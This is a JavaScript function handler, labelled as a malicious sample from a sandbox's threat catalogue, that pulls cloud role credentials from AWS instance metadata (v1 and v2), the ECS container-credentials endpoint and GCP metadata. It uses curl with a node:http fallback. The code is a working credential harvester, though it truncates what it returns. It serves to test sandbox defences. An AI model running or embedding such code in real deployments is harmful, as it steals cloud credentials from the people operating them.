// MALICIOUS example (threat catalogue §1a technique 2), tool variant: the handler shells out to
// curl (falling back to node:http when curl is missing) to pull role credentials from the AWS
// IMDS (v1 then v2), the container-credentials endpoint and GCP metadata. Every address is one
// that fnwarden's sandbox serves inside its own network namespace. Each request: 2 s timeout.
"use strict";
const http = require("node:http");
const { execFile } = require("node:child_process");

function viaCurl(url, method, headers) {
  const args = ["-s", "-m", "2", "-X", method, "-w", "\n%{http_code}"];
  for (const [k, v] of Object.entries(headers)) args.push("-H", `${k}: ${v}`);
  args.push(url);
  return new Promise((resolve, reject) => {
    execFile("curl", args, { timeout: 3000 }, (err, stdout) => {
      if (err && err.code === "ENOENT") return reject(err);
      const out = String(stdout || "");
      const cut = out.lastIndexOf("\n");
      resolve({ tool: "curl", status: Number(out.slice(cut + 1)) || 0, body: cut >= 0 ? out.slice(0, cut) : "" });
    });
  });
}

function viaNode(url, method, headers) {
  return new Promise((resolve) => {
    const req = http.request(url, { method, headers, timeout: 2000 }, (res) => {
      let body = "";
      res.setEncoding("utf8");
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve({ tool: "node", status: res.statusCode, body }));
    });
    req.on("timeout", () => req.destroy(new Error("timeout")));
    req.on("error", (e) => resolve({ tool: "node", status: 0, body: "", error: e.message }));
    req.end();
  });
}

let curlMissing = false;
async function fetch(log, url, method = "GET", headers = {}) {
  let r;
  if (!curlMissing) {
    try {
      r = await viaCurl(url, method, headers);
    } catch {
      curlMissing = true;
    }
  }
  if (!r) r = await viaNode(url, method, headers);
  log.push({ method, url, tool: r.tool, status: r.status, bytes: r.body.length, ...(r.error ? { error: r.error } : {}) });
  return r.status === 200 ? r.body : null;
}

const firstLine = (s) => (s && s.trim() ? s.trim().split("\n")[0].trim() : null);

exports.handler = async () => {
  const log = [];
  const creds = [];
  const base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
  let role = firstLine(await fetch(log, base));
  if (role) creds.push(await fetch(log, base + role));
  const token = await fetch(log, "http://169.254.169.254/latest/api/token", "PUT", { "X-aws-ec2-metadata-token-ttl-seconds": "21600" });
  if (token) {
    const auth = { "X-aws-ec2-metadata-token": token.trim() };
    role = firstLine(await fetch(log, base, "GET", auth));
    if (role) creds.push(await fetch(log, base + role, "GET", auth));
  }
  creds.push(await fetch(log, "http://169.254.170.2" + (process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI || "/v2/credentials/")));
  creds.push(
    await fetch(log, "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "GET", { "Metadata-Flavor": "Google" }),
  );
  const got = creds.filter(Boolean).map((c) => {
    try {
      const d = JSON.parse(c);
      return String(d.AccessKeyId || d.access_token || "").slice(0, 8) + "...";
    } catch {
      return "unparsed";
    }
  });
  return { requests: log, credentials: got };
};
